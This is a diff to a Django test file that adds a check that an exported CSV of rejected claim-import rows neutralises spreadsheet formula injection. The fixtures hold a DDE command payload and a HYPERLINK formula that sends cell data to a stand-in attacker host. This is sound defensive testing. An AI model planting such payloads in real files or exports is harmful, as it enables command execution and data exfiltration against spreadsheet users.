@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from unittest import mock
 
 import pytest
@@ -137,6 +139,29 @@ def test_it_downloads_the_rejected_rows(teammate_client, practice):
     assert response["Content-Disposition"] == 'attachment; filename="march-rejected-rows.csv"'
     lines = b"".join(response.streaming_content).decode().splitlines()
     assert lines == ["Row,Column,Value,Problem", "7,DOS,13/45/2026,13/45/2026 is not a real date. Use MM/DD/YYYY."]
+
+
+@pytest.mark.django_db
+def test_it_keeps_formulas_from_the_uploaded_file_inert_in_the_report(teammate_client, practice):
+    claim_import = ClaimImportFactory(practice=practice, rejected_count=2)
+    ClaimImportErrorFactory(
+        claim_import=claim_import,
+        row_number=3,
+        column="=cmd|' /C calc'!A0",
+        value='=HYPERLINK("http://evil.example/?"&A1)',
+        message="-2+3 is not an amount.",
+    )
+    ClaimImportErrorFactory(
+        claim_import=claim_import, row_number=4, column="Amount", value="-12.50", message="Amount cannot be negative."
+    )
+
+    response = teammate_client.get(f"/claims/import/{claim_import.pk}/rejected-rows.csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    link = '=HYPERLINK("http://evil.example/?"&A1)'
+    assert rows[1] == ["3", "'=cmd|' /C calc'!A0", f"'{link}", "'-2+3 is not an amount."]
+    # A plain negative number is a number, not a formula.
+    assert rows[2] == ["4", "Amount", "-12.50", "Amount cannot be negative."]
 
 
 @pytest.mark.django_db
